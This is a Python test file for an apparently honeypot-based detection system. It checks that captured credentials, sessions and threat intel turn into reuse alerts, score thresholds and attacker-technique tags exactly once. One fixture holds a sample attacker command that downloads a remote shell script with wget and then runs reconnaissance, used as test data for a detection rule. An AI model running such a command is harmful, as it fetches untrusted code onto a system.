"""Derived events from stored rows on both databases: told once, whatever the order and number of deliveries."""

from __future__ import annotations

import random
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from decnet.bus.base import BaseBus, Event
from decnet.bus.null import NullBus
from decnet.config import Settings, load_settings
from decnet.db.repository import BaseRepository
from decnet.ids import attacker_id, identity_id
from decnet.recorder.scores import score
from decnet.recorder.worker import RecorderWorker
from decnet.runtime.worker import Transaction
from decnet.ttp import aggregates
from decnet.ttp.aggregates import due_events
from decnet.ttp.worker import TtpWorker
from tests.dbkit import KINDS, open_repo
from tests.wirekit import taken

IP = "203.0.113.5"
A = attacker_id(IP)


@pytest.fixture(params=KINDS)
async def repo(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo(request.param, tmp_path) as opened:
        yield opened


def captured(n: int, ts: float, *, ok: bool = False, decky: str = "web-01", **more: Any) -> Event:
    payload: dict[str, Any] = {
        "attacker_ip": IP,
        "decky_id": decky,
        "service": "ssh",
        "session_id": f"s{n}",
        "username": "root",
    }
    payload |= {"secret_hmac": f"h{n}", "secret_kind": "password", "success": ok} | more
    return Event("credential.captured", payload, "password", f"c{n}|{ts}|{decky}|{more}", ts)


def ended(n: int, ts: float, **more: Any) -> Event:
    payload: dict[str, Any] = {
        "session_id": f"s{n}",
        "attacker_ip": IP,
        "decky_id": f"d{n % 12}",
        "service": "ssh",
        "protocol": "ssh",
    }
    payload |= {"started_at": ts, "ended_at": ts + 5, "command_count": 3, "part": 1, "parts": 1} | more
    return Event("attacker.session.ended", payload, "closed", f"e{n}|{ts}", ts + 5)


async def record(
    repo: BaseRepository, events: list[Event], worker: RecorderWorker | None = None
) -> list[Event]:
    """One batch and the recorder's job; what went to the outbox of both."""
    worker = worker or RecorderWorker(load_settings())
    async with repo.transaction() as bound:
        tx = Transaction(bound)
        await worker.handle(taken(events), tx)
        assert tx.dead == []
    for job in worker.jobs:
        if job.name == "derive":
            await job.run(repo, NullBus())
    rows = await repo.outbox_take(1000)
    await repo.outbox_delete([row for row, _ in rows])
    return [event.opened() for _, event in rows]


def topics_of(events: list[Event]) -> list[str]:
    return sorted(event.topic for event in events)


async def test_reuse_is_told_once_and_again_when_it_doubled(repo: BaseRepository) -> None:
    pair: dict[str, Any] = {"secret_hmac": "same", "username": "pi"}
    assert await record(repo, [captured(1, 100.0, **pair)]) == []
    (told,) = await record(repo, [captured(2, 101.0, decky="web-02", **pair)])
    assert told.topic == "credential.reuse.detected"
    assert told.payload["reuse_count"] == 1
    assert told.payload["target_count"] == 2
    assert told.payload["deckies"] == ["web-01", "web-02"]
    assert told.payload["attacker_uuids"] == [A]
    assert told.ts == 101.0
    assert "same" not in str(told.payload)
    assert await record(repo, [captured(2, 101.0, decky="web-02", **pair)]) == []
    assert await record(repo, [captured(3, 102.0, decky="web-03", **pair)]) == []
    (again,) = await record(repo, [captured(4, 103.0, decky="web-04", **pair)])
    assert again.payload["credential_id"] == told.payload["credential_id"]
    assert again.payload["target_count"] == 4


async def test_each_threshold_of_the_score_is_crossed_once(repo: BaseRepository) -> None:
    events = [ended(n, 1000.0 + 10 * n) for n in range(60)] + [captured(n, 1000.0 + n) for n in range(60)]
    told = await record(repo, events)
    assert topics_of(told) == ["attacker.scored"] * 3
    assert [event.payload["threshold"] for event in told] == [25.0, 50.0, 75.0]
    payload = told[0].payload
    counts = {
        name: payload[name] for name in ("event_count", "service_count", "decky_count", "credential_count")
    }
    assert counts == {"event_count": 240, "service_count": 1, "decky_count": 12, "credential_count": 60}
    assert payload["score"] == score(counts)
    assert await record(repo, events) == []
    assert await repo.due_count("recorder") == 0


def tagger(repo: BaseRepository, settings: Settings) -> TtpWorker:
    from decnet.ttp.store.factory import get_rule_store

    return TtpWorker(get_rule_store(settings, repo=repo), settings)


async def judged(worker: TtpWorker, repo: BaseRepository, batch: list[Event] | None = None) -> list[Event]:
    """A batch, or the job over what is due; what was published."""
    if batch is not None:
        async with repo.transaction() as bound:
            tx = Transaction(bound)
            await worker.handle(taken(batch), tx)
            return tx.bus.events
    for job in worker.jobs:
        if job.name == "aggregates":
            await job.run(repo, NullBus())
    rows = await repo.outbox_take(1000)
    await repo.outbox_delete([row for row, _ in rows])
    return [event.opened() for _, event in rows]


def attack() -> list[Event]:
    """Guessing over sessions, a success after it, one secret on many names, and regular returns."""
    events = [captured(n, 10_000.0 + 20 * n) for n in range(8)]
    events += [captured(20, 10_200.0, ok=True)]
    events += [captured(30 + n, 50_000.0 + 5000 * n, username=f"u{n}", secret_hmac="one") for n in range(4)]
    return events + [ended(40 + n, 100_000.0 + 60 * n) for n in range(9)]


async def test_aggregates_become_tags_in_any_order(repo: BaseRepository, tmp_path: Path) -> None:
    settings = load_settings(data_dir=tmp_path)
    worker = tagger(repo, settings)
    await worker.start(repo, NullBus())
    dice, events, published = random.Random(3), attack(), []
    dice.shuffle(events)
    for start in range(0, len(events), 5):
        await record(repo, [*events[start : start + 5], *events[:2]])
        published += await judged(worker, repo)
    tags = await repo.list_tags(limit=0)
    found = {(row["source_kind"], row["source_id"]) for row in tags}
    assert ("identity", identity_id(A)) in found
    assert ("session", f"{A}#beacon") in found
    assert ("auth_attempt", f"{A}#auth#33") in found
    success = [row for row in tags if row["session_id"] == "s20"]
    assert success, "the success after the guessing"
    spraying = next(row for row in tags if row["source_kind"] == "identity")
    assert spraying["attacker_uuid"] is None
    told = {uuid for e in published if e.topic == "ttp.tagged" for uuid in e.payload["tag_uuids"]}
    assert told == {row["uuid"] for row in tags}
    await record(repo, events)
    assert await judged(worker, repo) == []
    assert await repo.due_count("ttp") == 0


async def test_evidence_of_aggregates_is_that_of_all_rows_whenever_they_were_looked_at(
    repo: BaseRepository, tmp_path: Path
) -> None:
    """A look in the middle (a restart, a busy machine) once left its own count in the tag for ever."""
    worker = tagger(repo, load_settings(data_dir=tmp_path))
    await worker.start(repo, NullBus())
    events = [captured(n, 10_000.0 + 15 * n) for n in range(12)]
    told: list[Event] = []
    for some in (events[:6], events[6:9], events[9:]):
        await record(repo, some)
        told += await judged(worker, repo)
    counts = {
        (row["rule_id"], row["source_id"]): (
            row["evidence"].get("fail_count"),
            row["evidence"].get("secret_count"),
        )
        for row in await repo.list_tags(limit=0)
    }
    assert counts == {
        ("L0601", f"{A}#auth#33"): (12, None),
        ("L0602", f"{A}#auth#33"): (None, 12),
    }
    uuids = [uuid for event in told if event.topic == "ttp.tagged" for uuid in event.payload["tag_uuids"]]
    assert len(uuids) == len(set(uuids)) == 2, "news of a tag is told once, however often its numbers grow"


async def test_a_smaller_spread_of_a_newer_secret_does_not_take_the_place_of_the_greatest(
    repo: BaseRepository, tmp_path: Path
) -> None:
    worker = tagger(repo, load_settings(data_dir=tmp_path))
    await worker.start(repo, NullBus())
    wide = [captured(n, 1000.0 + n, username=f"u{n}", secret_hmac="wide") for n in range(9)]
    narrow = [captured(n, 90_000.0 + n, username=f"u{n}", secret_hmac="narrow") for n in range(3)]
    for some in (wide, narrow):
        await record(repo, some)
        await judged(worker, repo)
    (spraying,) = [row for row in await repo.list_tags(limit=0) if row["source_kind"] == "identity"]
    assert spraying["evidence"]["account_count"] == 9


async def test_a_cap_on_one_look_loses_nothing(repo: BaseRepository, monkeypatch: pytest.MonkeyPatch) -> None:
    """Buckets of a span that is looked at in pieces are those of the whole."""
    await record(repo, [captured(n, 10_000.0 + 100 * n) for n in range(200)])
    mark = {"attacker_uuid": A, "since": 10_000.0, "until": 30_000.0}
    whole = {event.source_id: event.payload for event in await due_events(repo, [mark])}
    assert len(whole) > 10
    monkeypatch.setattr(aggregates, "MAX_ATTEMPTS", 100)
    assert {event.source_id: event.payload for event in await due_events(repo, [mark])} == whole


INTEL = {
    "attacker_ip": IP,
    "aggregate_verdict": "malicious",
    "feodo_listed": True,
    "feodo_malware_family": "Emotet",
    "abuseipdb_score": 100,
    "abuseipdb_categories": [22, 18],
}


async def test_stored_intel_is_judged_with_a_session_and_gives_no_second_tag(
    repo: BaseRepository, tmp_path: Path
) -> None:
    enriched = Event("attacker.intel.enriched", INTEL, "", "i1", 50.0)
    worker = tagger(repo, load_settings(data_dir=tmp_path))
    await worker.start(repo, NullBus())
    await record(repo, [enriched, ended(1, 100.0)])
    await judged(worker, repo, [ended(1, 100.0)])
    before = {row["uuid"] for row in await repo.list_tags(limit=0)}
    kinds = {row["source_kind"]: row["source_id"] for row in await repo.list_tags(limit=0)}
    assert kinds["intel"] == A
    assert await judged(worker, repo, [enriched]) == []
    assert {row["uuid"] for row in await repo.list_tags(limit=0)} == before


async def test_the_newest_intel_counts_in_any_order(repo: BaseRepository) -> None:
    for ts in (60.0, 50.0, 60.0):
        await record(
            repo,
            [Event("attacker.intel.enriched", {"attacker_ip": IP, "abuseipdb_score": ts}, "", f"i{ts}", ts)],
        )
    assert [(ts, payload["abuseipdb_score"]) for ts, payload in await repo.intel_of([A, "x"])] == [
        (60.0, 60.0)
    ]


async def test_suppressed_tags_are_told_once_a_window(repo: BaseRepository, tmp_path: Path) -> None:
    from decnet.ttp.rules import RuleState

    settings = load_settings(data_dir=tmp_path)
    worker = tagger(repo, settings)
    bus = _Heard()
    await worker.start(repo, bus)
    assert worker.store is not None
    await worker.store.set_state("R0002", RuleState("disabled"))
    for owner in worker.tagger.iter_watchables():
        owner.engine.replace_states(worker.store.states())  # type: ignore[attr-defined]
    commands = [{"id": "c1", "command_text": "wget http://203.0.113.9/x.sh; crontab -l; uname -a", "ts": 1.0}]
    await repo.ignore_add("203.0.113.0/24")
    assert await judged(worker, repo, [ended(1, 100.0, commands=commands)]) == []
    for _ in range(2):
        await worker.suppression.publish(repo, bus)
    told = [(e.payload["rule_id"], e.payload["reason"], e.payload["window_s"]) for e in bus.heard]
    assert ("R0002", "disabled", 10.0) in told
    assert len(told) == len(set(told))
    assert {reason for _, reason, _ in told} == {"disabled", "ignored_source"}


class _Heard(NullBus):
    """A bus that remembers what was published."""

    def __init__(self) -> None:
        super().__init__()
        self.heard: list[Event] = []

    async def publish(self, topic: str, payload: dict[str, Any], **options: Any) -> None:
        if topic == "ttp.rule.suppressed":
            self.heard.append(Event(topic, payload))


def test_a_bus_is_a_bus() -> None:
    assert issubclass(_Heard, BaseBus)
